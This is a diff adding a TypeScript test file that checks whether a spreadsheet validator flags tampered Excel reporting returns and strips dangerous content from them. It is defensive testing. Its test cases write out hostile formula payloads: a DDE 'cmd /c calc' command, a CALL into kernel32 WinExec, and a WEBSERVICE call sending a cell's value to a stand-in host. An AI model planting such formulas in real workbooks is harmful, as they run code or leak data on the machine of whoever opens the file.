@@ -1,0 +1,159 @@
+/**
+ * Issue 11, items 4 and 5, against the files a hostile county would send: each case is a clean return edited at
+ * the XML level (packageEdit.ts), checked as `plan-indicators check` checks a file, with the finding it must give
+ * and the exit status. Dangerous content is an error and never travels into the annotated copy; what the county
+ * sees must be what is stored.
+ */
+import { strToU8 } from 'fflate';
+import { exitStatusOf } from '../../src/cli/checkJob';
+import { placeA1 } from '../../src/core/form';
+import { annotateWorkbook } from '../../src/xlsx/annotateWorkbook';
+import { checkBytes, filledReturn, findingsOf, formsOf, type Form } from './support';
+import { PackageEdit } from './packageEdit';
+import { readXlsxXml } from './security/xlsxXml';
+
+const HIGHTECH = 'yuecheng-2021-2025.hightech-enterprises';
+
+let form: Form;
+let clean: Uint8Array;
+
+beforeAll(async () => {
+  [form] = formsOf(false) as [Form];
+  clean = await filledReturn(false);
+});
+
+interface PackageCase {
+  title: string;
+  edit: (pkg: PackageEdit, form: Form) => void;
+  code: string;
+  /** The cell the finding names (null: the workbook or sheet as a whole). */
+  cell?: (form: Form) => string | null;
+  exit: number;
+}
+
+const formulaIn = (formula: string) => (pkg: PackageEdit, f: Form) => {
+  pkg.cell(f.name, f.actual(HIGHTECH, 2025), `<f>${formula.replace(/&/gu, '&amp;').replace(/</gu, '&lt;').replace(/"/gu, '&quot;')}</f><v>650</v>`);
+};
+const onActual = (f: Form) => f.actual(HIGHTECH, 2025);
+
+const CASES: PackageCase[] = [
+  { title: 'an external reference in brackets', edit: formulaIn('[1]Sheet1!A1'), code: 'dangerous.external_reference', cell: onActual, exit: 2 },
+  { title: 'an external reference by path', edit: formulaIn("'C:\\统计\\[台账.xlsx]2025'!C7"), code: 'dangerous.external_reference', cell: onActual, exit: 2 },
+  { title: 'a UNC path', edit: formulaIn("SUM('\\\\server\\share\\[a.xlsx]S'!A1:A3)"), code: 'dangerous.external_reference', cell: onActual, exit: 2 },
+  { title: 'INDIRECT building a reference from CHAR codes', edit: formulaIn('INDIRECT(CHAR(91)&"a.xlsx]S!A1")'), code: 'dangerous.indirect', cell: onActual, exit: 2 },
+  { title: 'OFFSET over an external reference', edit: formulaIn('OFFSET([2]S!A1,0,0)'), code: 'dangerous.external_reference', cell: onActual, exit: 2 },
+  { title: 'WEBSERVICE sending a cell away', edit: formulaIn('_xlfn.WEBSERVICE("http://x.example/?v="&L14)'), code: 'dangerous.network', cell: onActual, exit: 2 },
+  { title: 'FILTERXML', edit: formulaIn('_xlfn.FILTERXML("<a>1</a>","//a")'), code: 'dangerous.network', cell: onActual, exit: 2 },
+  { title: 'HYPERLINK', edit: formulaIn('HYPERLINK("http://x.example","650")'), code: 'dangerous.network', cell: onActual, exit: 2 },
+  { title: 'a DDE command', edit: formulaIn("cmd|' /c calc'!A0"), code: 'dangerous.dde', cell: onActual, exit: 2 },
+  { title: 'CALL into a library', edit: formulaIn('CALL("kernel32","WinExec","JCJ","calc",0)'), code: 'dangerous.code', cell: onActual, exit: 2 },
+  { title: 'RTD', edit: formulaIn('RTD("srv",,"x")'), code: 'dangerous.network', cell: onActual, exit: 2 },
+  {
+    title: 'a defined name into another workbook',
+    edit: (pkg) => pkg.change('xl/workbook.xml', (xml) => xml.replace('<definedNames>', '<definedNames><definedName name="台账">[1]Sheet1!$A$1</definedName>')),
+    code: 'dangerous.defined_name', exit: 2,
+  },
+  {
+    title: 'a DDE formula on the cover sheet',
+    edit: (pkg) => pkg.cell('填报说明', 'A1', "<f>cmd|' /c calc'!A0</f><v>0</v>"),
+    code: 'dangerous.formula_elsewhere', exit: 2,
+  },
+  { title: 'a macro project', edit: (pkg) => pkg.set('xl/vbaProject.bin', new Uint8Array([0xd0, 0xcf, 0x11, 0xe0])), code: 'dangerous.macro_project', exit: 2 },
+  { title: 'an externalLinks part', edit: (pkg) => pkg.set('xl/externalLinks/externalLink1.xml', '<externalLink/>'), code: 'dangerous.external_link', exit: 2 },
+  { title: 'an embedded OLE object', edit: (pkg) => pkg.set('xl/embeddings/oleObject1.bin', new Uint8Array([1, 2, 3])), code: 'dangerous.ole_object', exit: 2 },
+  {
+    title: 'a linked picture',
+    edit: (pkg) => pkg.set('xl/drawings/_rels/drawing1.xml.rels', '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://x.example/p.png" TargetMode="External"/></Relationships>'),
+    code: 'dangerous.linked_picture', exit: 2,
+  },
+  {
+    title: 'a number format that prints 已达标 over any value',
+    edit: (pkg, f) => pkg.cell(f.name, f.actual(HIGHTECH, 2025), '<v>560</v>', ` s="${pkg.style('"已达标"')}"`),
+    code: 'form.number_format_hides', cell: onActual, exit: 2,
+  },
+  {
+    title: 'a number format that shows 650 over 560',
+    edit: (pkg, f) => pkg.cell(f.name, f.actual(HIGHTECH, 2025), '<v>560</v>', ` s="${pkg.style('"650"')}"`),
+    code: 'form.number_format_hides', cell: onActual, exit: 2,
+  },
+  {
+    title: 'a number format that shows nothing (;;;)',
+    edit: (pkg, f) => pkg.cell(f.name, f.actual(HIGHTECH, 2025), '<v>560</v>', ` s="${pkg.style(';;;')}"`),
+    code: 'form.number_format_hides', cell: onActual, exit: 2,
+  },
+  {
+    title: 'a hidden row in the table',
+    edit: (pkg, f) => pkg.change(pkg.sheetPart(f.name), (xml) => xml.replace(`<row r="${f.row(HIGHTECH) + 1}" `, `<row r="${f.row(HIGHTECH) + 1}" hidden="1" `)),
+    code: 'form.row_hidden', cell: (f) => `${f.row(HIGHTECH) + 1}:${f.row(HIGHTECH) + 1}`, exit: 2,
+  },
+  {
+    title: 'a hidden column in the table',
+    edit: (pkg, f) => pkg.change(pkg.sheetPart(f.name), (xml) => xml.replace('<col min="3" max="3" width="40" customWidth="1"/>', '<col min="3" max="3" width="40" hidden="1" customWidth="1"/>')),
+    code: 'form.columns_hidden', exit: 2,
+  },
+  {
+    title: 'the reporting sheet very hidden',
+    edit: (pkg, f) => pkg.change('xl/workbook.xml', (xml) => xml.replace(`name="${f.name}" state="visible"`, `name="${f.name}" state="veryHidden"`)),
+    code: 'form.sheet_hidden', exit: 2,
+  },
+  {
+    title: 'a protection password added',
+    edit: (pkg, f) => pkg.change(pkg.sheetPart(f.name), (xml) => xml.replace('<sheetProtection sheet="1"', '<sheetProtection password="CC3D" sheet="1"')),
+    code: 'form.protection_password', exit: 2,
+  },
+  {
+    title: 'the status colours forced green',
+    edit: (pkg, f) => pkg.change(pkg.sheetPart(f.name), (xml) => xml.replace(/OR\(\$P8=&quot;已达标&quot;,\$P8=&quot;符合序时进度&quot;\)/u, 'TRUE')),
+    code: 'form.conditional_formats_changed', exit: 2,
+  },
+  {
+    title: 'the data validation removed',
+    edit: (pkg, f) => pkg.change(pkg.sheetPart(f.name), (xml) => xml.replace(/<dataValidations[\s\S]*?<\/dataValidations>/u, '')),
+    code: 'form.validation_changed', exit: 1,
+  },
+  {
+    title: 'a locked cell of the form unlocked (责任部门)',
+    edit: (pkg, f) => pkg.change(pkg.sheetPart(f.name), (xml) => {
+      const address = f.at(HIGHTECH, f.map.columns.responsible);
+      const style = pkg.style(null, false);
+      return xml.replace(new RegExp(`<c r="${address}" s="\\d+"`, 'u'), `<c r="${address}" s="${style}"`);
+    }),
+    code: 'form.cell_unlocked', exit: 2,
+  },
+];
+
+describe('dangerous content and what the county sees, edited in the XML of a clean return', () => {
+  it('the clean return, rewritten by fflate, is accepted', async () => {
+    const result = await checkBytes(new PackageEdit(clean).bytes());
+    expect(findingsOf(result)).toEqual([]);
+    expect(exitStatusOf(result)).toBe(0);
+  });
+
+  it.each(CASES.map((c) => [c.title, c] as const))('%s', async (_title, c) => {
+    const pkg = new PackageEdit(clean);
+    c.edit(pkg, form);
+    const result = await checkBytes(pkg.bytes());
+    expect(result.problem).toBeNull();
+    const found = findingsOf(result).filter((finding) => finding.code === c.code);
+    expect(found.length).toBeGreaterThan(0);
+    if (c.cell !== undefined) expect(found.map((finding) => (finding.ref === null ? null : placeA1(finding.ref)))).toContain(c.cell(form));
+    expect(found[0]?.message.zh).toMatch(/[\u4e00-\u9fff]/u);
+    expect(exitStatusOf(result)).toBe(c.exit);
+  });
+});
+
+describe('nothing dangerous travels into the annotated copy', () => {
+  it('a DDE formula and a WEBSERVICE formula become the values they showed', async () => {
+    const pkg = new PackageEdit(clean);
+    formulaIn("cmd|' /c calc'!A0")(pkg, form);
+    pkg.cell(form.name, form.actual('yuecheng-2021-2025.tech-smes', 2025), '<f>_xlfn.WEBSERVICE("http://x.example")</f><v>12</v>');
+    pkg.change('xl/workbook.xml', (xml) => xml.replace('<definedNames>', '<definedNames><definedName name="台账">[1]Sheet1!$A$1</definedName>'));
+    const bytes = pkg.bytes();
+    const result = await checkBytes(bytes);
+    const annotated = await annotateWorkbook(bytes, findingsOf(result), 'zh-CN');
+    const xml = await readXlsxXml(annotated);
+    expect(xml.formulas.map((formula) => formula.text).filter((text) => /cmd\||WEBSERVICE|\[1\]/iu.test(text))).toEqual([]);
+    expect(xml.cells.find((cell) => cell.address === form.actual(HIGHTECH, 2025) && cell.part.endsWith('sheet2.xml'))?.formula).toBeNull();
+    expect(Buffer.from(annotated).includes(Buffer.from(strToU8('[1]Sheet1')))).toBe(false);
+  });
+});
